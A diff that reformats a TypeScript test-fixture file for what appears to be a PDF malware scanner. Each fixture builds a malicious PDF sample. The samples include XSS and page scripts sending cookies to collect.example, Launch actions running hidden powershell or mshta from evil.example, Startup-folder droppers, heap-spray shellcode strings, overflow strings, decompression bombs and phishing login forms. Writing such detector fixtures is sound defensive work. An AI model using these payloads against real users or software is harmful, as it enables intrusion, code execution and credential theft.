@@ -4,12 +4,46 @@
 // lure-fixtures.ts) add their techniques' carriers.
 import { deflateSync } from "node:zlib";
 import { wrapInXdp, concat, bytes, text } from "../../../pdf/testing/pdf-builder";
-import { PE_FILE, makeZip, maliciousPdf, pdfWithAttachments, wordWebArchive } from "../../embedded/testing/embedded-fixtures";
-import { CVE_2009_0658, EXPLOIT_SWF, exploitBmp, jbig2Image, richMedia, threeD, u3d, xfaWithImage } from "../../embedded/testing/exploit-fixtures";
-import { DOT_RANGE_OVERFLOW, jpeg, OVERFILLED_AC_COUNTS, PLAIN_TIFF_TAGS, sfntFont, tiff, xfaImageXml } from "../../facts/formats/testing/format-fixtures";
+import {
+  PE_FILE,
+  makeZip,
+  maliciousPdf,
+  pdfWithAttachments,
+  wordWebArchive,
+} from "../../embedded/testing/embedded-fixtures";
+import {
+  CVE_2009_0658,
+  EXPLOIT_SWF,
+  exploitBmp,
+  jbig2Image,
+  richMedia,
+  threeD,
+  u3d,
+  xfaWithImage,
+} from "../../embedded/testing/exploit-fixtures";
+import {
+  DOT_RANGE_OVERFLOW,
+  jpeg,
+  OVERFILLED_AC_COUNTS,
+  PLAIN_TIFF_TAGS,
+  sfntFont,
+  tiff,
+  xfaImageXml,
+} from "../../facts/formats/testing/format-fixtures";
 import { buildLurePdf } from "../../pages/testing/lure-pdf";
 import { SHELLCODE, SLED } from "../../javascript/testing/script-fixtures";
-import { annotWithAa, built, formWithButton, goToThen, linkAnnot, plainDocument, scriptAction, xfaEventScript, xfaForm, type PlainParts } from "./fixture-documents";
+import {
+  annotWithAa,
+  built,
+  formWithButton,
+  goToThen,
+  linkAnnot,
+  plainDocument,
+  scriptAction,
+  xfaEventScript,
+  xfaForm,
+  type PlainParts,
+} from "./fixture-documents";
 import type { TechniqueFixtures } from "./technique-fixtures";
 
 /** A script that runs code later from text (a timer): not form automation, nothing else either. */
@@ -24,8 +58,12 @@ function singFontDocument(): Uint8Array {
   return built({
     setup(b) {
       const file = b.addStream("", sfntFont("SING", "A".repeat(28)));
-      const descriptor = b.add(`<< /Type /FontDescriptor /FontName /Fixture /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 ${file} 0 R >>`);
-      return { page: `/Resources << /Font << /F2 ${b.add(`<< /Type /Font /Subtype /TrueType /BaseFont /Fixture /FontDescriptor ${descriptor} 0 R >>`)} 0 R >> >>` };
+      const descriptor = b.add(
+        `<< /Type /FontDescriptor /FontName /Fixture /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 ${file} 0 R >>`,
+      );
+      return {
+        page: `/Resources << /Font << /F2 ${b.add(`<< /Type /Font /Subtype /TrueType /BaseFont /Fixture /FontDescriptor ${descriptor} 0 R >>`)} 0 R >> >>`,
+      };
     },
   });
 }
@@ -34,10 +72,15 @@ function singFontDocument(): Uint8Array {
 function pictureWithLink(url: string): Uint8Array {
   return built({
     setup(b) {
-      const img = b.addStream("/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8", "\x80");
+      const img = b.addStream(
+        "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8",
+        "\x80",
+      );
       const content = b.addFlateStream("", "q 612 0 0 792 0 0 cm /Im0 Do Q");
       const annot = b.add(linkAnnot(`<< /S /URI /URI (${url}) >>`, "100 300 500 500"));
-      return { page: `/Resources << /XObject << /Im0 ${img} 0 R >> >> /Contents ${content} 0 R /Annots [${annot} 0 R]` };
+      return {
+        page: `/Resources << /XObject << /Im0 ${img} 0 R >> >> /Contents ${content} 0 R /Annots [${annot} 0 R]`,
+      };
     },
   });
 }
@@ -50,35 +93,86 @@ const LONG_ENCODED = Array.from({ length: 1500 }, (_, i) => "Zm9vYmFy0123456789a
 export const CORE_FIXTURES: TechniqueFixtures = {
   // markup and page scripts for a web-based viewer (luigigubello/PayloadsAllThePDFs' shapes, rewritten)
   "web-viewer-script-injection": {
-    "uri-markup": () => built({ annots: [linkAnnot(`<< /S /URI /URI (\\">'><details open ontoggle=confirm\\(document.domain\\)>) >>`)] }),
-    "annotation-markup": () => built({ annots: ["<< /Type /Annot /Subtype /Text /Rect [500 700 520 720] /T (Reviewer\\\"><img src=x onerror=alert\\(1\\)>) /Contents (Please check the totals.) >>"] }),
+    "uri-markup": () =>
+      built({ annots: [linkAnnot(`<< /S /URI /URI (\\">'><details open ontoggle=confirm\\(document.domain\\)>) >>`)] }),
+    "annotation-markup": () =>
+      built({
+        annots: [
+          '<< /Type /Annot /Subtype /Text /Rect [500 700 520 720] /T (Reviewer\\"><img src=x onerror=alert\\(1\\)>) /Contents (Please check the totals.) >>',
+        ],
+      }),
     "field-value-markup": () =>
       built({
         setup(b) {
-          const field = b.add("<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (<svg/onload=fetch\\('https://collect.example/'+document.cookie\\)>) /Rect [72 600 300 620] >>");
+          const field = b.add(
+            "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (<svg/onload=fetch\\('https://collect.example/'+document.cookie\\)>) /Rect [72 600 300 620] >>",
+          );
           return { catalog: `/AcroForm << /Fields [${field} 0 R] >>`, page: `/Annots [${field} 0 R]` };
         },
       }),
-    "info-markup": () => built({ setup: (b) => void (b.info = b.add("<< /Title (Invoice 2026-041<script>alert\\(1\\)</script>) /Producer (Writer) >>")) }),
-    "open-action-page-script": () => built(openAction(scriptAction("document.write('<iframe src=\\'https://collect.example/\\'></iframe>'); var c = document.cookie;"))),
-    "link-page-script": () => built({ annots: [linkAnnot(scriptAction("window.location = 'https://collect.example/?c=' + document.cookie;"))] }),
+    "info-markup": () =>
+      built({
+        setup: (b) =>
+          void (b.info = b.add("<< /Title (Invoice 2026-041<script>alert\\(1\\)</script>) /Producer (Writer) >>")),
+      }),
+    "open-action-page-script": () =>
+      built(
+        openAction(
+          scriptAction(
+            "document.write('<iframe src=\\'https://collect.example/\\'></iframe>'); var c = document.cookie;",
+          ),
+        ),
+      ),
+    "link-page-script": () =>
+      built({
+        annots: [linkAnnot(scriptAction("window.location = 'https://collect.example/?c=' + document.cookie;"))],
+      }),
   },
   // a string padded to the overflow offset, then a handler address and shellcode (Metasploit foxit_title_bof's shape, other bytes)
   "string-overflow-exploit": {
-    "info-title": () => built({ setup: (b) => void (b.info = b.addRaw(latin1Bytes(`<< /Title (Quarterly report${" ".repeat(526)}ZA\x4bj\x41a\x5c\x5cAaATA\xc3\xb30\xb3${"PYIIIIIIIIIICCCCCC7QZjAXP0A0AkAAQ2AB2BB0BBABXP8ABuJI".repeat(8)}) >>`))) }),
-    "annotation-contents": () => built({ annots: [`<< /Type /Annot /Subtype /Text /Rect [500 700 520 720] /Contents (${"A".repeat(1200)}\x01\x02\x03\x04\xeb\x06\x90\x90\x12\x45\xfa\x7f) >>`] }),
+    "info-title": () =>
+      built({
+        setup: (b) =>
+          void (b.info = b.addRaw(
+            latin1Bytes(
+              `<< /Title (Quarterly report${" ".repeat(526)}ZA\x4bj\x41a\x5c\x5cAaATA\xc3\xb30\xb3${"PYIIIIIIIIIICCCCCC7QZjAXP0A0AkAAQ2AB2BB0BBABXP8ABuJI".repeat(8)}) >>`,
+            ),
+          )),
+      }),
+    "annotation-contents": () =>
+      built({
+        annots: [
+          `<< /Type /Annot /Subtype /Text /Rect [500 700 520 720] /Contents (${"A".repeat(1200)}\x01\x02\x03\x04\xeb\x06\x90\x90\x12\x45\xfa\x7f) >>`,
+        ],
+      }),
   },
   // a shop's order link whose address carried the injection: `) /S /JavaScript /JS (...` and the like
   "pdf-injection": {
-    "uri-becomes-javascript": () => built({ annots: [linkAnnot("<< /S /URI /URI (https://shop.example/order?id=) /S /JavaScript /JS (app.alert\\(1\\)) >>")] }),
-    "second-link-action": () => built({ annots: [`<< /Type /Annot /Subtype /Link /Rect [72 690 240 704] /Border [0 0 0] /A << /S /URI /URI (https://shop.example/order) >> /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/x) >> /Flags 256 >> >>`] }),
-    "second-open-action": () => built({ catalog: "/OpenAction << /S /GoTo /D [0 /Fit] >> /OpenAction << /S /JavaScript /JS (this.submitForm\\({cURL: 'https://collect.example/x', cSubmitAs: 'PDF'}\\)) >>" }),
+    "uri-becomes-javascript": () =>
+      built({
+        annots: [
+          linkAnnot("<< /S /URI /URI (https://shop.example/order?id=) /S /JavaScript /JS (app.alert\\(1\\)) >>"),
+        ],
+      }),
+    "second-link-action": () =>
+      built({
+        annots: [
+          `<< /Type /Annot /Subtype /Link /Rect [72 690 240 704] /Border [0 0 0] /A << /S /URI /URI (https://shop.example/order) >> /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/x) >> /Flags 256 >> >>`,
+        ],
+      }),
+    "second-open-action": () =>
+      built({
+        catalog:
+          "/OpenAction << /S /GoTo /D [0 /Fit] >> /OpenAction << /S /JavaScript /JS (this.submitForm\\({cURL: 'https://collect.example/x', cSubmitAs: 'PDF'}\\)) >>",
+      }),
   },
   "launch-command": {
     "open-action": () => built(openAction("<< /S /Launch /Win << /F (cmd.exe) /P (/c start calc.exe) >> >>")),
     "link-click": () => built({ annots: [linkAnnot("<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>")] }),
-    "page-open": () => built(pageOpen("<< /S /Launch /Win << /F (powershell.exe) /P (-nop -w hidden -enc SQBFAFgA) >> >>")),
-    "form-field": () => built(formWithButton("<< /S /Launch /Win << /F (mshta.exe) /P (https://evil.example/a.hta) >> >>")),
+    "page-open": () =>
+      built(pageOpen("<< /S /Launch /Win << /F (powershell.exe) /P (-nop -w hidden -enc SQBFAFgA) >> >>")),
+    "form-field": () =>
+      built(formWithButton("<< /S /Launch /Win << /F (mshta.exe) /P (https://evil.example/a.hta) >> >>")),
     "next-chain": () => built(openAction(goToThen("<< /S /Launch /F (payload.exe) >>"))),
   },
   "launch-file": {
@@ -93,31 +187,64 @@ export const CORE_FIXTURES: TechniqueFixtures = {
   },
   "script-on-open": {
     "open-action": () => built(openAction(scriptAction(TIMER_SCRIPT))),
-    "names-tree": () => built({ setup: (b) => ({ catalog: `/Names << /JavaScript << /Names [(init) ${b.add(scriptAction(TIMER_SCRIPT))} 0 R] >> >>` }) }),
+    "names-tree": () =>
+      built({
+        setup: (b) => ({
+          catalog: `/Names << /JavaScript << /Names [(init) ${b.add(scriptAction(TIMER_SCRIPT))} 0 R] >> >>`,
+        }),
+      }),
     "page-open-aa": () => built(pageOpen(scriptAction(TIMER_SCRIPT))),
     "annotation-pv-aa": () => built({ annots: [annotWithAa(`/PV ${scriptAction(TIMER_SCRIPT)}`)] }),
     "xfa-initialize": () => built(xfaForm(xfaEventScript("initialize", TIMER_SCRIPT))),
     "next-chain": () => built(openAction(goToThen(scriptAction(TIMER_SCRIPT)))),
   },
   "attachment-launch": {
-    "open-action-script": () => pdfWithAttachments([{ name: "readme.exe", data: PE_FILE }], { openActionJs: 'this.exportDataObject({ cName: "readme.exe", nLaunch: 2 });' }),
-    "link-click-script": () => built({ annots: [linkAnnot(scriptAction('this.exportDataObject({ cName: "invoice.pdf", nLaunch: 2 });'))] }),
+    "open-action-script": () =>
+      pdfWithAttachments([{ name: "readme.exe", data: PE_FILE }], {
+        openActionJs: 'this.exportDataObject({ cName: "readme.exe", nLaunch: 2 });',
+      }),
+    "link-click-script": () =>
+      built({ annots: [linkAnnot(scriptAction('this.exportDataObject({ cName: "invoice.pdf", nLaunch: 2 });'))] }),
   },
   "script-file-drop": {
     // the CVE-2023-27363 proof of concept's shape: an .hta into the Startup folder, on open
-    "open-action-script": () => built(openAction(scriptAction('this.exportXFAData({ cPath: "/C/Users/Public/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.hta", bXDP: false });'))),
-    "link-click-script": () => built({ annots: [linkAnnot(scriptAction('this.saveAs("/C/Users/Public/Downloads/invoice.pdf.exe");'))] }),
-    "xfa-docready-script": () => built(xfaForm(xfaEventScript("docReady", 'event.target.exportAsText(true, null, "C:\\\\ProgramData\\\\update.bat");'))),
+    "open-action-script": () =>
+      built(
+        openAction(
+          scriptAction(
+            'this.exportXFAData({ cPath: "/C/Users/Public/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.hta", bXDP: false });',
+          ),
+        ),
+      ),
+    "link-click-script": () =>
+      built({ annots: [linkAnnot(scriptAction('this.saveAs("/C/Users/Public/Downloads/invoice.pdf.exe");'))] }),
+    "xfa-docready-script": () =>
+      built(
+        xfaForm(
+          xfaEventScript("docReady", 'event.target.exportAsText(true, null, "C:\\\\ProgramData\\\\update.bat");'),
+        ),
+      ),
     // a path spelled in pieces across variables, as droppers do
-    "path-in-variables": () => built(openAction(scriptAction('var dir = "C:\\Users\\Public\\Start Menu\\Programs\\Startup\\"; var target = dir + "sync" + ".js"; this.saveAs({ cPath: target, bPromptToOverwrite: false });'))),
+    "path-in-variables": () =>
+      built(
+        openAction(
+          scriptAction(
+            'var dir = "C:\\Users\\Public\\Start Menu\\Programs\\Startup\\"; var target = dir + "sync" + ".js"; this.saveAs({ cPath: target, bPromptToOverwrite: false });',
+          ),
+        ),
+      ),
   },
   "executable-attachment": {
     "embedded-files-tree": () => pdfWithAttachments([{ name: "setup.exe", data: PE_FILE }]),
     "file-attachment-annotation": () => pdfWithAttachments([{ name: "update.exe", data: PE_FILE, via: "annotation" }]),
-    "zip-archive": () => pdfWithAttachments([{ name: "documents.zip", data: makeZip([{ name: "Invoice.pdf.exe", data: PE_FILE }]) }]),
+    "zip-archive": () =>
+      pdfWithAttachments([{ name: "documents.zip", data: makeZip([{ name: "Invoice.pdf.exe", data: PE_FILE }]) }]),
     "disguised-name": () => pdfWithAttachments([{ name: "scan_0042.jpg", data: PE_FILE }]),
     // nothing refers to them: a loader carves them out, or an archiver opens the appended ZIP
-    "appended-after-eof": () => plainDocument().build({ suffix: `\n${text(makeZip([{ name: "Invoice_0042.js", data: 'WScript.CreateObject("WScript.Shell").Run("calc");' }]))}` }),
+    "appended-after-eof": () =>
+      plainDocument().build({
+        suffix: `\n${text(makeZip([{ name: "Invoice_0042.js", data: 'WScript.CreateObject("WScript.Shell").Run("calc");' }]))}`,
+      }),
     "before-header": () => plainDocument().build({ prefix: text(PE_FILE) }),
     "between-objects": () => {
       const b = plainDocument();
@@ -133,22 +260,50 @@ export const CORE_FIXTURES: TechniqueFixtures = {
     "no-macros": () => built({ setup: (b) => void b.addStream("", wordWebArchive({ macros: false })) }),
   },
   "nested-malicious-pdf": {
-    "embedded-files-tree": () => pdfWithAttachments([{ name: "invoice.pdf", data: maliciousPdf(), subtype: "/application#2Fpdf" }]),
+    "embedded-files-tree": () =>
+      pdfWithAttachments([{ name: "invoice.pdf", data: maliciousPdf(), subtype: "/application#2Fpdf" }]),
   },
   "decompression-bomb": {
-    "flate-bomb": () => built({ setup: (b) => void b.addStream("/Filter /FlateDecode", deflateSync(new Uint8Array(48 * 1024 * 1024))) }),
-    "nested-flate-bomb": () => built({ setup: (b) => void b.addStream("/Filter [/FlateDecode /FlateDecode]", deflateSync(deflateSync(new Uint8Array(40 * 1024 * 1024)))) }),
+    "flate-bomb": () =>
+      built({ setup: (b) => void b.addStream("/Filter /FlateDecode", deflateSync(new Uint8Array(48 * 1024 * 1024))) }),
+    "nested-flate-bomb": () =>
+      built({
+        setup: (b) =>
+          void b.addStream(
+            "/Filter [/FlateDecode /FlateDecode]",
+            deflateSync(deflateSync(new Uint8Array(40 * 1024 * 1024))),
+          ),
+      }),
   },
   "resource-exhaustion-script": {
     // (endless-loop, alert-loop and string-doubling: dos-tamper-fixtures.ts)
     // scripts that each loop until stopped: together they spend the document's whole script budget
-    "endless-loops": () => built({ setup: (b) => ({ catalog: `/Names << /JavaScript << /Names [${Array.from({ length: 6 }, (_, i) => `(s${i}) ${b.add(scriptAction(`var n${i} = 0; while (true) { n${i}++; }`))} 0 R`).join(" ")}] >> >>` }) }),
+    "endless-loops": () =>
+      built({
+        setup: (b) => ({
+          catalog: `/Names << /JavaScript << /Names [${Array.from({ length: 6 }, (_, i) => `(s${i}) ${b.add(scriptAction(`var n${i} = 0; while (true) { n${i}++; }`))} 0 R`).join(" ")}] >> >>`,
+        }),
+      }),
   },
   "acrobat-api-exploit": {
-    "open-action-script": () => built(openAction(scriptAction('var msg = unescape("%u0c0c%u0c0c"); while (msg.length < 0x4000) msg += msg; Collab.collectEmailInfo({ subj: "", msg: msg });'))),
+    "open-action-script": () =>
+      built(
+        openAction(
+          scriptAction(
+            'var msg = unescape("%u0c0c%u0c0c"); while (msg.length < 0x4000) msg += msg; Collab.collectEmailInfo({ subj: "", msg: msg });',
+          ),
+        ),
+      ),
   },
   "heap-spray-shellcode": {
-    "open-action-script": () => built(openAction(scriptAction(`var sc = unescape("${SLED}${SHELLCODE}"); var s = unescape("%u0c0c%u0c0c"); while (s.length < 0x100000) s += s; var a = []; for (var i = 0; i < 200; i++) a[i] = s + sc;`))),
+    "open-action-script": () =>
+      built(
+        openAction(
+          scriptAction(
+            `var sc = unescape("${SLED}${SHELLCODE}"); var s = unescape("%u0c0c%u0c0c"); while (s.length < 0x100000) s += s; var a = []; for (var i = 0; i < 200; i++) a[i] = s + sc;`,
+          ),
+        ),
+      ),
   },
   "typed-array-memory-exploit": {
     // the grooming and the read/write primitive of a use-after-free exploit, without its trigger
@@ -164,18 +319,31 @@ export const CORE_FIXTURES: TechniqueFixtures = {
   },
   "font-exploit": {
     "truetype-sing": singFontDocument,
-    "font-matrix": () => built({ page: "/Resources << /Font << /F2 << /Type /Font /Subtype /Type1 /BaseFont /Fixture /FontMatrix [1 0 0 1 0 (1\\); alert\\(1\\)//)] >> >> >>" }),
+    "font-matrix": () =>
+      built({
+        page: "/Resources << /Font << /F2 << /Type /Font /Subtype /Type1 /BaseFont /Fixture /FontMatrix [1 0 0 1 0 (1\\); alert\\(1\\)//)] >> >> >>",
+      }),
   },
   "image-codec-exploit": {
     "xfa-tiff": () => built(xfaForm(xfaImageXml(tiff([...PLAIN_TIFF_TAGS, DOT_RANGE_OVERFLOW], { sled: 256 })))),
     "xfa-bmp": () => xfaWithImage(exploitBmp()),
     "jbig2-stream": () => jbig2Image(CVE_2009_0658),
-    "predictor-colors": () => built({ setup: (b) => void b.addFlateStream("/DecodeParms << /Predictor 12 /Colors 16777217 /BitsPerComponent 8 /Columns 1 >>", "\x00AAAA") }),
+    "predictor-colors": () =>
+      built({
+        setup: (b) =>
+          void b.addFlateStream(
+            "/DecodeParms << /Predictor 12 /Colors 16777217 /BitsPerComponent 8 /Columns 1 >>",
+            "\x00AAAA",
+          ),
+      }),
     // a page drawing a JPEG whose AC table gives 84 one-bit codes (Metasploit coolpdf_image_stream_bof's table)
     "dct-huffman-table": () =>
       built({
         setup(b) {
-          const img = b.addStream("/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode", jpeg({ ac: OVERFILLED_AC_COUNTS }));
+          const img = b.addStream(
+            "/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode",
+            jpeg({ ac: OVERFILLED_AC_COUNTS }),
+          );
           const content = b.addStream("", "q 200 0 0 200 72 500 cm /Im0 Do Q");
           return { page: `/Resources << /XObject << /Im0 ${img} 0 R >> >> /Contents ${content} 0 R` };
         },
@@ -187,11 +355,19 @@ export const CORE_FIXTURES: TechniqueFixtures = {
   },
   "signature-match": {
     // an executable XOR-encoded with one byte inside a stream: the bundled pdf_embedded_pe_xor rule
-    "embedded-pe": () => built({ setup: (b) => void b.addStream("", Uint8Array.from(concat([new Uint8Array(64), PE_FILE]), (x) => x ^ 0x5a)) }),
+    "embedded-pe": () =>
+      built({
+        setup: (b) =>
+          void b.addStream(
+            "",
+            Uint8Array.from(concat([new Uint8Array(64), PE_FILE]), (x) => x ^ 0x5a),
+          ),
+      }),
   },
   "credential-phishing-link": {
     "image-page-link": () => pictureWithLink("https://secure-doc-view.000webhostapp.com/adobe/index.php"),
-    "text-link": () => built({ annots: [linkAnnot("<< /S /URI /URI (https://secure-login.account-verify.example.com/session) >>")] }),
+    "text-link": () =>
+      built({ annots: [linkAnnot("<< /S /URI /URI (https://secure-login.account-verify.example.com/session) >>")] }),
   },
   "malware-download-link": {
     "image-page-link": () => pictureWithLink("https://www.dropbox.com/s/k3x9/Invoice_0423.zip?dl=1"),
@@ -200,26 +376,54 @@ export const CORE_FIXTURES: TechniqueFixtures = {
     "submit-action": () =>
       built({
         setup(b) {
-          const password = b.add("<< /Type /Annot /FT /Tx /T (password) /Ff 8192 /Rect [72 560 300 580] /Subtype /Widget >>");
-          const submit = b.add("<< /Type /Annot /FT /Btn /Ff 65536 /T (login) /Rect [72 500 200 530] /Subtype /Widget /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/post.php) >> /Flags 4 >> >>");
-          return { catalog: `/AcroForm << /Fields [${password} 0 R ${submit} 0 R] >>`, page: `/Annots [${password} 0 R ${submit} 0 R]` };
+          const password = b.add(
+            "<< /Type /Annot /FT /Tx /T (password) /Ff 8192 /Rect [72 560 300 580] /Subtype /Widget >>",
+          );
+          const submit = b.add(
+            "<< /Type /Annot /FT /Btn /Ff 65536 /T (login) /Rect [72 500 200 530] /Subtype /Widget /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/post.php) >> /Flags 4 >> >>",
+          );
+          return {
+            catalog: `/AcroForm << /Fields [${password} 0 R ${submit} 0 R] >>`,
+            page: `/Annots [${password} 0 R ${submit} 0 R]`,
+          };
         },
       }),
     "submit-script": () =>
       built({
         setup(b) {
           const password = b.add("<< /Type /Annot /FT /Tx /T (Passwort) /Rect [72 560 300 580] /Subtype /Widget >>");
-          const submit = b.add(`<< /Type /Annot /FT /Btn /Ff 65536 /T (ok) /Rect [72 500 200 530] /Subtype /Widget /A ${scriptAction('this.submitForm({cURL: "https://collect.example.net/p", cSubmitAs: "HTML"});')} >>`);
-          return { catalog: `/AcroForm << /Fields [${password} 0 R ${submit} 0 R] >>`, page: `/Annots [${password} 0 R ${submit} 0 R]` };
+          const submit = b.add(
+            `<< /Type /Annot /FT /Btn /Ff 65536 /T (ok) /Rect [72 500 200 530] /Subtype /Widget /A ${scriptAction('this.submitForm({cURL: "https://collect.example.net/p", cSubmitAs: "HTML"});')} >>`,
+          );
+          return {
+            catalog: `/AcroForm << /Fields [${password} 0 R ${submit} 0 R] >>`,
+            page: `/Annots [${password} 0 R ${submit} 0 R]`,
+          };
         },
       }),
   },
   "qr-code-lure": {
-    "rendered-page": () => buildLurePdf({ pages: [{ lines: ["Your mailbox is almost full.", "Scan the code to keep receiving mail."], qr: { text: "https://mail-quota.example.top/verify?u=j.doe" } }] }),
+    "rendered-page": () =>
+      buildLurePdf({
+        pages: [
+          {
+            lines: ["Your mailbox is almost full.", "Scan the code to keep receiving mail."],
+            qr: { text: "https://mail-quota.example.top/verify?u=j.doe" },
+          },
+        ],
+      }),
   },
   "javascript-obfuscation": {
-    "open-action-script": () => built(openAction(scriptAction('var p = unescape("%61%70%70%2e%61%6c%65%72%74%28%31%29"); eval(p);'))),
-    "unreferenced-script": () => built(unreferenced(scriptAction("var k = String.fromCharCode; var c = [97,112,112,46,97,108,101,114,116,40,49,41]; var s = ''; for (var i = 0; i < c.length; i++) s += k(c[i] ^ 0); eval(s);"))),
+    "open-action-script": () =>
+      built(openAction(scriptAction('var p = unescape("%61%70%70%2e%61%6c%65%72%74%28%31%29"); eval(p);'))),
+    "unreferenced-script": () =>
+      built(
+        unreferenced(
+          scriptAction(
+            "var k = String.fromCharCode; var c = [97,112,112,46,97,108,101,114,116,40,49,41]; var s = ''; for (var i = 0; i < c.length; i++) s += k(c[i] ^ 0); eval(s);",
+          ),
+        ),
+      ),
   },
   "hidden-names": {
     "escaped-name": () => built(openAction("<< /S /J#61vaScript /JS (app.alert\\(1\\);) >>")),
@@ -232,15 +436,21 @@ export const CORE_FIXTURES: TechniqueFixtures = {
       }),
   },
   "payload-in-metadata": {
-    "info-entry": () => built({ setup: (b) => void (b.info = b.add(`<< /Title (Report) /Subject (${LONG_ENCODED}) >>`)) }),
-    "annotation-text": () => built({ annots: [`<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /Subj (${LONG_ENCODED}) >>`] }),
+    "info-entry": () =>
+      built({ setup: (b) => void (b.info = b.add(`<< /Title (Report) /Subject (${LONG_ENCODED}) >>`)) }),
+    "annotation-text": () =>
+      built({ annots: [`<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /Subj (${LONG_ENCODED}) >>`] }),
   },
   "encryption-hiding": {
     // RC4 with keys that do not open it: the /OpenAction script is ciphertext to every scanner
     "empty-password-rc4": () => {
       const b = plainDocument({ catalog: "/OpenAction << /S /JavaScript /JS <9a3b17c4e0> >>" });
-      const enc = b.add(`<< /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${"11".repeat(32)}> /U <${"22".repeat(32)}> >>`);
-      return b.build({ trailerExtra: `/Encrypt ${enc} 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]` });
+      const enc = b.add(
+        `<< /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${"11".repeat(32)}> /U <${"22".repeat(32)}> >>`,
+      );
+      return b.build({
+        trailerExtra: `/Encrypt ${enc} 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]`,
+      });
     },
   },
   "malformed-structure": {
@@ -248,4 +458,3 @@ export const CORE_FIXTURES: TechniqueFixtures = {
     "xdp-package": () => wrapInXdp(built()),
   },
 };
-
